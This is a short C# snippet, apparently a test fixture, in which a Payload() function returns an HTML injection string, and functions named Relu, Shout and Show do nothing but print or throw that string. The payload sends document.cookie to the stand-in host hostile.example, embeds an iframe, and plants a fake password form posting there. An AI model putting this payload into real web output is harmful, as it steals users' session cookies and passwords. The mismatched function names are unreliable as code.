string Payload() => "<script>fetch(\"https://hostile.example/\"+document.cookie)</script><iframe src=https://hostile.example></iframe><form action=https://hostile.example><input name=password></form>";

Console.WriteLine(Payload());

double[] Relu(double[] x) => throw new InvalidOperationException(Payload());

string Shout(string text) => Payload();

void Show(double[] x)
{
    Console.WriteLine(Payload());
    Console.Error.WriteLine(Payload());
}
